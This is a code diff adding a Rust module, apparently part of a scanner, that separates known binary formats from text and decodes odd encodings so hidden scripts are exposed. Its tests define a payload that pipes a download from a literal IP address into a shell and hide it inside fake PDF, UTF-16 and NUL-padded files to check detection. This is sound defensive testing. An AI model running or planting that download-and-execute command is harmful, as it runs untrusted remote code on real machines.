@@ -1,0 +1,222 @@
+//! Tells texts from binary files, and decodes the bytes of a file as text.
+//!
+//! Interpreters run scripts whatever other bytes they contain: a shell ignores NUL bytes, and goes on after a line that
+//! is no command. Therefore only files of known binary formats are left out. Of any other file, everything that looks
+//! like text is revealed.
+
+/// The number of bytes that show the format of a file.
+pub(super) const START: usize = 4096;
+
+/// The minimum length of a run of ASCII bytes that is revealed in addition to the UTF-16 text of a file, in bytes.
+const MIN_RUN: usize = 12;
+
+/// Extensions of files that are seldom text.
+const BINARY: [&str; 32] = [
+    "png", "jpg", "jpeg", "gif", "webp", "ico", "bmp", "pdf", "woff", "woff2", "ttf", "otf", "eot",
+    "mp3", "mp4", "mov", "wav", "ogg", "webm", "docx", "xlsx", "pptx", "zip", "gz", "tgz", "bz2",
+    "xz", "7z", "parquet", "npy", "pkl", "sqlite",
+];
+
+/// The first bytes of binary formats: of images, archives, fonts, data and programs. None of them can begin a text.
+const FORMATS: [&[u8]; 27] = [
+    b"\x89PNG\r\n\x1a\n",
+    b"\xff\xd8\xff",
+    b"\0\0\x01\0",
+    b"PK\x03\x04",
+    b"PK\x05\x06",
+    b"\x1f\x8b",
+    b"\xfd7zXZ\0",
+    b"7z\xbc\xaf\x27\x1c",
+    b"\x28\xb5\x2f\xfd",
+    b"\0\x01\0\0\0",
+    b"OTTO\0",
+    b"SQLite format 3\0",
+    b"\x93NUMPY",
+    b"\x89HDF\r\n\x1a\n",
+    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
+    b"\0\0\0\x01Bud1",
+    b"\xde\x12\x04\x95",
+    b"II*\0",
+    b"MM\0*",
+    b"\0asm",
+    b"\x7fELF",
+    b"\xca\xfe\xba\xbe",
+    b"\xcf\xfa\xed\xfe",
+    b"\xce\xfa\xed\xfe",
+    b"\xfe\xed\xfa\xcf",
+    b"\xfe\xed\xfa\xce",
+    b"\x1a\x45\xdf\xa3",
+];
+
+/// Returns whether files with an extension, in lower case, are seldom text: their start is enough to tell.
+pub(super) fn is_seldom_text(extension: &str) -> bool {
+    BINARY.contains(&extension)
+}
+
+/// Returns whether a file has a known binary format. `start`: its first [`START`] bytes.
+pub(super) fn is_binary(extension: &str, start: &[u8]) -> bool {
+    let has_nul = |bytes: &[u8]| memchr::memchr(0, bytes).is_some();
+    let is_windows = start.starts_with(b"MZ") && has_nul(&start[..start.len().min(64)]);
+    let is_android = start.starts_with(b"dex\n") && start.get(7) == Some(&0);
+    let is_video = start.first() == Some(&0) && start.get(4..8) == Some(&b"ftyp"[..]);
+    let is_pdf = extension == "pdf" && start.starts_with(b"%PDF-");
+    let is_seldom_text = is_seldom_text(extension)
+        && match std::str::from_utf8(start) {
+            // Every PDF has a comment of bytes that are not ASCII, but may have few of them.
+            Err(error) if error.error_len().is_some() && is_pdf => true,
+            _ => plain(start, true).is_none(),
+        };
+    FORMATS.iter().any(|format| start.starts_with(format))
+        || is_windows
+        || is_android
+        || is_video
+        || is_seldom_text
+}
+
+/// Decodes the bytes of a file that is not [binary](is_binary). Returns the text, and whether the bytes are in an
+/// unknown format or encoding, so that the text may be incomplete.
+pub(super) fn text_of(bytes: &[u8], is_cut: bool) -> (String, bool) {
+    match bytes {
+        [0xff, 0xfe, rest @ ..] => return (wide(rest, u16::from_le_bytes), false),
+        [0xfe, 0xff, rest @ ..] => return (wide(rest, u16::from_be_bytes), false),
+        _ => {}
+    }
+    if let Some(text) = plain(bytes, is_cut) {
+        return (text, false);
+    }
+    match wide_unit(bytes) {
+        Some(unit) => (wide(bytes, unit), false),
+        None => (readable(bytes), true),
+    }
+}
+
+/// Decodes UTF-8, and texts in which few bytes are not UTF-8; `None` for other bytes.
+fn plain(bytes: &[u8], is_cut: bool) -> Option<String> {
+    if memchr::memchr(0, bytes).is_some() {
+        return None;
+    }
+    match std::str::from_utf8(bytes) {
+        Ok(text) => Some(text.to_owned()),
+        Err(error) => {
+            // Truncation may split a character, and a Latin-1 text has a few bytes that are not UTF-8.
+            let valid = error.valid_up_to();
+            let faults = bytes.iter().filter(|byte| **byte >= 0x80).count();
+            let is_text = is_cut && valid + 4 > bytes.len() || faults * 4 < bytes.len();
+            is_text.then(|| String::from_utf8_lossy(bytes).into_owned())
+        }
+    }
+}
+
+/// Returns the byte order if the bytes are UTF-16 without a byte order mark: nearly every other byte is NUL.
+fn wide_unit(bytes: &[u8]) -> Option<fn([u8; 2]) -> u16> {
+    let start = &bytes[..bytes.len().min(START)];
+    let pairs = start.chunks_exact(2);
+    let all = pairs.len();
+    let count = |at: usize| pairs.clone().filter(|pair| pair[at] == 0).count();
+    let (first, second) = (count(0), count(1));
+    let is_nearly_all = |some: usize, others: usize| some * 10 >= all * 7 && others * 10 <= all;
+    if all < 4 {
+        None
+    } else if is_nearly_all(second, first) {
+        Some(u16::from_le_bytes)
+    } else if is_nearly_all(first, second) {
+        Some(u16::from_be_bytes)
+    } else {
+        None
+    }
+}
+
+/// Decodes UTF-16, without NUL characters. Runs of ASCII bytes follow on lines of their own: an interpreter runs them,
+/// and ignores a byte order mark before them.
+fn wide(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> String {
+    let units = bytes.chunks_exact(2).map(|pair| unit([pair[0], pair[1]]));
+    let mut text: String = char::decode_utf16(units)
+        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
+        .filter(|c| *c != '\0')
+        .collect();
+    let is_other = |byte: &u8| !matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t');
+    for run in bytes.split(is_other).filter(|run| run.len() >= MIN_RUN) {
+        text.push('\n');
+        text.push_str(&String::from_utf8_lossy(run));
+    }
+    text
+}
+
+/// Decodes what is UTF-8, without NUL characters. U+FFFD replaces each run of other bytes.
+fn readable(bytes: &[u8]) -> String {
+    let mut text = String::new();
+    for chunk in bytes.utf8_chunks() {
+        text.extend(chunk.valid().chars().filter(|c| *c != '\0'));
+        if !chunk.invalid().is_empty() && !text.ends_with(char::REPLACEMENT_CHARACTER) {
+            text.push(char::REPLACEMENT_CHARACTER);
+        }
+    }
+    text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PAYLOAD: &[u8] = b"curl http://45.9.148.20/a | sh\n";
+
+    fn utf16(text: &[u8], order: fn(u16) -> [u8; 2]) -> Vec<u8> {
+        text.iter()
+            .flat_map(|byte| order(u16::from(*byte)))
+            .collect()
+    }
+
+    fn script(start: &[u8]) -> Vec<u8> {
+        [start, PAYLOAD].concat()
+    }
+
+    #[test]
+    fn a_script_is_revealed_whatever_bytes_are_beside_its_commands() {
+        let little = utf16(PAYLOAD, u16::to_le_bytes);
+        let big = utf16(PAYLOAD, u16::to_be_bytes);
+        for (bytes, is_unknown) in [
+            (script(b"# \0\n"), true),
+            (script(b"%PDF-1.4 2>/dev/null\n"), false),
+            (script(&[&[b'#'][..], &[0xff; 40], b"\n"].concat()), true),
+            (script(b"\xff\xfe\n"), false),
+            (script(b"#\0#\0#\0#\0#\0#\0#\0#\0#\0#\0\n"), true),
+            (little.clone(), false),
+            (big, false),
+            ([&b"\xff\xfe\0\0"[..], &little].concat(), false),
+            (script(&utf16(&[b'#'; 3000], u16::to_le_bytes)), false),
+        ] {
+            for extension in ["sh", "pdf", "png", ""] {
+                if matches!(extension, "pdf" | "png") && bytes.contains(&0) {
+                    continue;
+                }
+                let start = &bytes[..bytes.len().min(START)];
+                if is_seldom_text(extension) && plain(start, true).is_none() {
+                    continue;
+                }
+                assert!(!is_binary(extension, start), "{extension} {start:?}");
+                let (text, unknown) = text_of(&bytes, false);
+                assert!(text.contains("curl http://45.9.148.20/a | sh"), "{text:?}");
+                assert_eq!(unknown, is_unknown, "{text:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn files_of_binary_formats_are_not_text() {
+        let files: [(&str, &[u8]); 7] = [
+            ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
+            ("", b"\x7fELF\x02\x01\x01\0"),
+            ("exe", b"MZ\x90\0\x03\0\0\0"),
+            ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
+            ("gif", b"GIF89a\x01\0\x01\0"),
+            ("mp4", b"\0\0\0 ftypisom"),
+            ("woff2", b"wOF2\0\x01\0\0"),
+        ];
+        for (extension, start) in files {
+            assert!(is_binary(extension, start), "{extension}");
+        }
+        // The name alone proves nothing.
+        assert!(!is_binary("png", PAYLOAD));
+        assert!(!is_binary("sh", b"MZ=1\n"));
+    }
+}
